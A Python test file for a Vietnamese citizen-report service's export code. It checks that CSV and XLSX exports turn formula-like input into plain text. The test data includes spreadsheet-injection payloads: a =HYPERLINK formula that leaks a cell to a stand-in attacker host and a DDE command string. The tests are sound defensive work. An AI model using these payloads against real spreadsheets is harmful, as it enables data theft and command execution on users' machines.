"""Exports opened in a spreadsheet never run what a citizen or an admin typed (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from phananh.exports.cells import neutralise
from phananh.exports.stats_report import workbook
from tests.support import act, report_in_state

EXPORT = "/api/v1/exports/reports"
TAB_HYPERLINK = '\t=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")'


@pytest.mark.parametrize("text", [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1",
])
def test_formula_like_text_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Ổ gà trên đường", "+84912345678", "-5", "3.5", 4, 9.1769, "a=b", ""])
def test_ordinary_text_and_numbers_are_left_alone(value):
    assert neutralise(value) == value


async def _rated_report(client, tokens, marker: str, comment: str) -> dict:
    created = await report_in_state(client, tokens, "published", title=f"=HYPERLINK(\"x\") {marker}")
    await act(client, created["id"], "rate", {"score": 1, "comment": comment},
              headers={"X-Tracking-Token": created["tracking_token"]})
    return created


async def test_csv_neutralises_a_rating_comment_with_a_leading_tab(client, tokens):
    await _rated_report(client, tokens, "inj-csv", TAB_HYPERLINK)
    r = await client.get(EXPORT, params={"format": "csv", "q": "inj-csv"}, headers=await tokens("dispatcher"))
    assert r.status_code == 200, r.text
    [row] = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert row["Nhận xét của người phản ánh"] == "'" + TAB_HYPERLINK
    assert row["Tiêu đề"].startswith("'=HYPERLINK")
    assert row["Đánh giá"] == "1"  # numbers stay numbers


async def test_xlsx_has_no_formula_cell_and_keeps_numbers(client, tokens):
    await _rated_report(client, tokens, "inj-xlsx", TAB_HYPERLINK)
    r = await client.get(EXPORT, params={"format": "xlsx", "q": "inj-xlsx"}, headers=await tokens("dispatcher"))
    assert r.status_code == 200, r.text
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = {title: cell for title, cell in zip(header, sheet[2])}
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), "no formula anywhere"
    assert cells["Nhận xét của người phản ánh"].value == "'" + TAB_HYPERLINK
    assert cells["Tiêu đề"].value.startswith("'=HYPERLINK")
    assert cells["Đánh giá"].value == 1 and cells["Đánh giá"].data_type == "n"
    assert isinstance(cells["Vĩ độ"].value, float)


def _all_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_statistics_workbook_writes_admin_names_as_text():
    names = ["=HYPERLINK(\"http://evil.example\",\"Bấm\")", "\t=1+1", "@SUM(1)", "+1-1"]
    ov = {
        "period": {"from": "2026-11-01", "to": "2026-11-30"}, "scope": {"name": "=cmd"},
        "totals": {"received": 4, "open": 1, "done": 3, "rejected": 0, "merged": 0, "urgent": 0},
        "now": {"overdue": 0, "at_risk": 0}, "on_time": {"overall": {"rate": 0.75}, "by_stage": {}},
        "satisfaction": {"average": 4.0, "distribution": {"5": 1}}, "by_status": {"published": 4},
        "by_category": [{"name": n, "count": 1} for n in names], "by_area": [{"name": names[0], "count": 4}],
        "series": [{"period": "2026-11", "count": 4}], "durations": {},
    }
    cells = _all_cells(workbook(ov, title="=Báo cáo"))
    assert not [c for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'" + n for n in names} <= texts and "'=cmd" in texts
    assert 0.75 in {c.value for c in cells}, "the rate stays a number"


async def test_stats_xlsx_with_an_admin_set_formula_name(client, tokens, engine):
    from sqlalchemy import select, update

    from phananh.directory.service import invalidate
    from phananh.directory.tables import categories

    evil = '=HYPERLINK("http://evil.example","Thiên tai")'
    await report_in_state(client, tokens, "received", category="thien-tai")
    where = categories.c.code == "thien-tai"
    async with engine.begin() as conn:
        original = (await conn.execute(select(categories.c.name_vi).where(where))).scalar_one()
        await conn.execute(update(categories).where(where).values(name_vi=evil))
    invalidate()
    try:
        r = await client.get("/api/v1/exports/stats.xlsx", headers=await tokens("supervisor"))
        assert r.status_code == 200
        cells = _all_cells(r.content)
        assert not [c for c in cells if c.data_type == "f"]
        assert "'" + evil in {c.value for c in cells}
    finally:
        async with engine.begin() as conn:
            await conn.execute(update(categories).where(where).values(name_vi=original))
        invalidate()
